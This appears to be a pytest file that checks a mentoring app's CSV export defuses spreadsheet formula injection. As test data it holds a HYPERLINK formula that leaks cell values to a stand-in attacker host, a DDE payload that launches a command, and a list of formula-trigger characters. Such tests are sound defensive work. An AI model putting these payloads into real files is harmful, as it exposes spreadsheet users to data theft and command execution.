"""Issue 12, finding 5: the evaluation export neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from flask import Flask
from sqlalchemy.orm import Session

from checkins import SurveyAnswer, answer_survey
from records import csv_text, neutralise_cell
from tests.support.checkins_factory import make_world
from tests.support.checkins_web import session_cookie

LEAK = '=HYPERLINK("http://attacker.example/?leak="&M2&N2,"Details")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_the_named_export_holds_no_live_formula(app: Flask, session: Session) -> None:
    world = make_world(session)
    pair = world.pair
    # Names come from LMS claims; comments from members: both are anyone's text.
    pair.mentee.display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    pair.mentee.email = "+mallory@example.org"
    answer_survey(session, world.tenant.id, pair.mentee.id, "day30",
                  SurveyAnswer(satisfaction=2, usefulness=3, confidence=4, comment=LEAK),
                  match_id=pair.match.id,
                  today=pair.match.accepted_at.date() + timedelta(days=30))  # fmt: skip
    answer_survey(session, world.tenant.id, pair.mentor.id, "day30",
                  SurveyAnswer(satisfaction=5, usefulness=5, confidence=5,
                               comment="-2+3 minus first"),
                  match_id=pair.match.id,
                  today=pair.match.accepted_at.date() + timedelta(days=30))  # fmt: skip
    session.commit()
    client = app.test_client()
    name, value = session_cookie(app, world.tenant.id, world.coordinator.id, coordinator=True)
    client.set_cookie(name, value)
    answer = client.get(f"/dashboard/{world.programme.id}/evaluation.csv?named=1")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + LEAK in cells and "'-2+3 minus first" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'+mallory@example.org" in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]


@pytest.mark.parametrize("value", [*(t + "1+1" for t in TRIGGERS), "  =1+1", " @x"])
def test_each_formula_start_is_neutralised(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Milo", "", "a=b", "2026-06-01", 3, -3, 2.5, "it's"])
def test_plain_values_pass_unchanged(value: object) -> None:
    assert neutralise_cell(value) == value


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert csv_text([["a", -3, None, "-3"]]) == "a,-3,,'-3\r\n"
